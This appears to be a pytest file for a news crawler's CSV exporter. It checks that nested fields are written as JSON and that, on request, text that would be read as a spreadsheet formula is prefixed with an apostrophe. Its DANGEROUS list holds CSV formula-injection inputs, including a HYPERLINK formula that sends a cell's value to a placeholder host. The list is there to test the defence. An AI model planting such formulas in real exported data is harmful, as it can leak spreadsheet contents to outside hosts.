"""CSV: nested fields are JSON, and on request no cell is a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from newscrawl.feeds import Table
from newscrawl.items import Article, Attachment, FieldOrigin, Image, ReadBy, ViewObservation


def exported(*items: object, **options: object) -> list[dict[str, str]]:
    file = io.BytesIO()
    table = Table(file, **options)
    table.start_exporting()
    for item in items:
        table.export_item(item)
    table.finish_exporting()
    return list(csv.DictReader(io.StringIO(file.getvalue().decode(), newline="")))


def article(**fields: object) -> Article:
    told = {
        "id": "town/press:1",
        "site": "town",
        "board": "press",
        "url": "https://town.example/1",
        "title": "제목",
        "body": "본문",
    }
    return Article(**{**told, **fields})


def test_nested_fields_are_json() -> None:
    file, picture = Attachment(name='붙임 "1", 안.hwp', size=5), Image(url="https://town.example/a.jpg")
    origin = ReadBy(family="xe", fields={"title": FieldOrigin(rule="h1", confidence=0.9)})
    (row,) = exported(article(attachments=[file], images=[picture], read_by=origin, warnings=["a, b", "c"]))
    (shown,) = json.loads(row["attachments"])
    assert (shown["name"], shown["size"], shown["url"], shown["form"]) == ('붙임 "1", 안.hwp', 5, None, None)
    assert json.loads(row["images"])[0]["url"] == "https://town.example/a.jpg"
    assert json.loads(row["read_by"])["fields"]["title"] == {"rule": "h1", "confidence": 0.9}
    assert json.loads(row["warnings"]) == ["a, b", "c"]


def test_an_empty_list_is_json_and_nothing_is_an_empty_cell() -> None:
    (row,) = exported(article(author=None))
    assert (row["attachments"], row["author"], row["title"]) == ("[]", "", "제목")


DANGEROUS = [
    "=1+1",
    "+82-2-123-4567",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u3000=1",
    "\u00a0@x",
    "\u200b=1",
    "\x00=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\ttab",
    '=HYPERLINK("http://x"&A1,"x")',
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_is_made_text_on_request(text: str) -> None:
    assert exported(article(title=text), spreadsheet=True)[0]["title"] == f"'{text}"
    assert exported(article(title=text))[0]["title"] == text


@pytest.mark.parametrize(
    "text", ["", "제목", "2024-03-15", "a=b", "1-2", "“=1”", "'=1", "  제목", "https://town.example/?a=1"]
)
def test_other_text_stays(text: str) -> None:
    assert exported(article(title=text), spreadsheet=True)[0]["title"] == text


def test_numbers_stay_numbers() -> None:
    seen = ViewObservation(
        article_id="town/press:1", observed_at="2024-03-15T01:00:00+00:00", view_count=-1, source="listing"
    )
    (row,) = exported(seen, spreadsheet=True)
    assert row["view_count"] == "-1"


def test_every_text_of_a_record_is_looked_at() -> None:
    texts = ("url", "title", "body", "body_html", "author", "department", "contact", "category", "copyright")
    (row,) = exported(article(**dict.fromkeys(texts, "=1")), spreadsheet=True)
    assert [row[name] for name in texts] == ["'=1"] * len(texts)
